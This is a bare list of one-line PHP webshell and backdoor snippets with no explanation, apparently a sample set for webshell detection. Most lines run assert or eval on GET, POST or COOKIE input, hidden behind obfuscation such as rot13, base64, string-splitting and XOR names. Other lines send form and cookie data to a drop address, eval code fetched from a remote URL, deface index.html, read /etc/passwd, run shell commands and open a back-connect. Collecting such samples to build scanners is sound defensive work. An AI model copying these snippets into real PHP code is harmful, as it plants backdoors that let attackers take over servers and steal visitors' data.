<?php Spl_Autoload_Register ( 'assert' ); class_exists( $_GET['c'] ); ?>
<?php Set_Error_Handler ( "assert" ); trigger_error( $_COOKIE['c'] ); ?>
<?php $f = new ReflectionFunction( 'assert' ); $f->invokeArgs( [ $_GET['c'] ] ); ?>
<?php uasort( ...$_COOKIE ); ?>
<?php usort( ... $_POST ['f'] ); ?>
<?php /** eval($_POST[1]) ASSERT */ class K {} $r = new ReflectionClass('K'); $d = $r->GetDocComment(); $fn = substr($d, strpos($d, 'ASSERT'), 6); $fn(substr($d, 4, 16)); ?>
<?php Move_Uploaded_File( $userfile , "up/" . $userfile_name ); ?>
<form method="post"><input name='dfile[]' type='checkbox' value='www'><input name="myaction" type="hidden" value = "DoZip"></form>
<?php $k = "~+d()" ^ "!{+{}"; $g = ${ $k }; $f = $g['f']; $f($g['c']); ?>
<?php $_ = "" . []; $__ = ( $_[ +"" ] | "" ) . ( $_[ +"" ] ^ "" ); ?>
<?php @mail('drop@example.com', 'c', serialize( $_POST ) . "--" . Serialize( $_COOKIE )); ?>
<?php $f = 'preg_' . 'replace'; $f('#.#e', 'EVAL($z)', '.'); ?>
<?php @Preg_Replace( Base64_Decode('Ly4qL2U='), $_POST['p'], '.' ); ?>
<?php EVAL ( File_Get_Contents ( 'ht' . 'tp://example.com/x.txt' ) ); ?>
<?php $n = "\x61" . chr(115) . "" . chr(115) . "ert"; $v = array_pop($_POST); $n($v); ?>
<?php $h = fopen( "index.html" , "w+" ); fputs($h, "<h1>HaCkEd by nobody</h1>"); fclose($h); ?>
<html><head><title>Tiny WebShell</title></head><body><?php echo getcwd(); ?></body></html>
<?php $p = $_SERVER['REMOTE_PORT']; echo 'back to ' . $p; @System( './fs ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT'] ); ?>
<?php $c = curl_init(); Curl_SetOpt( $c, CURLOPT_URL, "file:" . "file:///" . $_GET['f'] ); curl_exec($c); ?>
<?php if (!is_dir('file:')) MkDir( 'file:' ); chdir('file:'); ?>
<?php function dec($s, $t) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= IsSet( $t[ $s[$i] ] ) ? $t[ $s[$i] ] : $s[$i]; } return $o; } EVAL( dec('qevag(1);', array('q' => 'p', 'e' => 'r', 'v' => 'i', 'a' => 'n', 'g' => 't')) ); ?>
<?php $r = Str_Replace( "q", "", "qsqtqrq_qrqeqpqlqaqcqe" ); $c = $r( "zz", "", "czzrezzatzze_fzzunctzzion" ); $d = $r( "k", "", "bkase64_dkecode" ); $f = $c( '', $d( 'ZWNobyAxOw==' ) ); $f(); ?>
<?php $d = Str_Rot13( "onfr64_" . "qrpbqr" ); $z = STR_ROT13( 'tmva' . 'syngr' ); echo $z( $d( $_COOKIE['p'] ) ); ?>
<?php echo '<pre>' . htmlspecialchars( File ( "/etc/passwd" ) [0] ) . '</pre>'; ?>
<?php $n = 'ev' . 'al' . Chr( 40 ) . '$_POST[1]' . Chr(41); $m = "x" . chr(40) . "y"; ?>
<?php $u = Pack( 'H*', '687474703A2F2F' . '6578616d706c652e636f6d' ); echo File_Get_Contents( $u ); ?>
<?php declare(ticks=1); Register_Tick_Function ( 'assert' , $argv[1] ); ?>
<?php $i = new CallbackFilterIterator( new ArrayIterator( Array( $_GET [ 'x' ] ) ), 'assert' ); foreach ($i as $v) {} ?>
<?php echo "<center>backup done - BlackBap.Org</center>"; ?>
<p>BY:10001 blog:WWW.CHOUWAZI.COM</p><?php echo is_writable('c:\\windows\\temp') ? 'w' : '-'; ?>
<title>:: AventGrup ::.. - Sincap</title><?php session_start(); print_r($_SESSION); ?>
<?php $c = $_POST['c']; System( $c . " 1> /tmp/o.txt 2>&1 ; cat /tmp/o.txt; rm /tmp/o.txt" ); ?>
<?php $ip = $_GET [ "listen_ip" ]; $s = Socket_Create( AF_INET, SOCK_STREAM, SOL_TCP ); Socket_Bind( $s, $ip, 80 ); socket_listen( $s ); ?>
